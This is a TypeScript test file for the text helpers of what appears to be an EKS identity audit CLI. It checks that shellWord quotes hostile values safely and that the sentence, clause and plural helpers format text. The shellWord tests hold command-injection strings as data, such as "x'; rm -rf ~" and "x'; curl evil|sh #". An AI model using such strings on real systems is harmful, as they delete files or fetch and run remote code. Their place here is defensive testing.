import { parse as parseShell } from 'shell-quote';
import { describe, expect, it } from 'vitest';
import { clause, plural, sentence, shellWord } from '../../shared/text.js';
import { canAssumeCommand } from '../../shared/trust/command.js';

describe('shellWord', () => {
  it('leaves ARNs, ids, names and file URLs bare, as the printed commands always showed them', () => {
    for (const value of [
      'arn:aws:iam::111122223333:role/app-role',
      'arn:aws-cn:iam::111122223333:oidc-provider/oidc.eks.cn-north-1.amazonaws.com.cn/id/EXAMPLE',
      'file://trust-policy.json',
      'system:serviceaccount:team-a:web',
      'a-1b2c3d4e5f6a7b8c9',
      'eks-cluster-name=prod-blue',
      '50%',
      'user@example.com',
    ])
      expect(shellWord(value)).toBe(value);
  });

  it('quotes a hostile value so the shell reads it as one word, unchanged', () => {
    const quoted: Array<[string, string]> = [
      ["x'; rm -rf ~", `"x'; rm -rf ~"`],
      ['$(id)', '\\$\\(id\\)'],
      ['`id`', '\\`id\\`'],
      ['a b', "'a b'"],
      ['glob*?[a]', 'glob\\*\\?\\[a\\]'],
      ["it's! here", `'it'"'"'s! here'`],
      ['', "''"],
      ['#comment', '\\#comment'],
    ];
    for (const [value, word] of quoted) expect(shellWord(value), value).toBe(word);
    expect(parseShell(shellWord("x'; rm -rf ~ && echo $HOME")).map(String)).toEqual([
      "x'; rm -rf ~ && echo $HOME",
    ]);
  });

  it('quotes a hostile external id inside a trust can-assume replay', () => {
    const command = canAssumeCommand({
      kind: 'aws',
      principalArn: 'arn:aws:iam::111122223333:role/caller',
      externalId: "x'; curl evil|sh #",
    } as Parameters<typeof canAssumeCommand>[0]);
    expect(command).toBe(
      `eks-identity-audit trust can-assume --file trust-policy.json --aws-principal arn:aws:iam::111122223333:role/caller --external-id "x'; curl evil|sh #"`,
    );
    expect(parseShell(command).map(String).at(-1)).toBe("x'; curl evil|sh #");
  });
});

describe('sentence', () => {
  it('ends a message with exactly one mark', () => {
    expect(sentence('Role app is unused')).toBe('Role app is unused.');
    expect(sentence('Role app is unused.')).toBe('Role app is unused.');
    expect(sentence('Is it used?')).toBe('Is it used?');
    expect(sentence('  padded  ')).toBe('padded.');
  });
});

describe('clause', () => {
  it('drops one closing full stop and nothing else, so a reason fits inside another sentence', () => {
    expect(clause('the trust rejects the session.')).toBe('the trust rejects the session');
    expect(clause('version 1.2')).toBe('version 1.2');
    expect(clause('ends in an ellipsis...')).toBe('ends in an ellipsis..');
    expect(clause('a question?')).toBe('a question?');
    expect(clause('')).toBe('');
    expect(`${clause('denied.')}; the plan waits.`).toBe('denied; the plan waits.');
  });
});

describe('plural', () => {
  it('takes the singular for exactly one and the plural (given or with an s) otherwise', () => {
    expect(plural(1, 'finding')).toBe('finding');
    expect(plural(0, 'finding')).toBe('findings');
    expect(plural(2, 'finding')).toBe('findings');
    expect(plural(1, 'account or region', 'accounts or regions')).toBe('account or region');
    expect(plural(3, 'account or region', 'accounts or regions')).toBe('accounts or regions');
  });
});
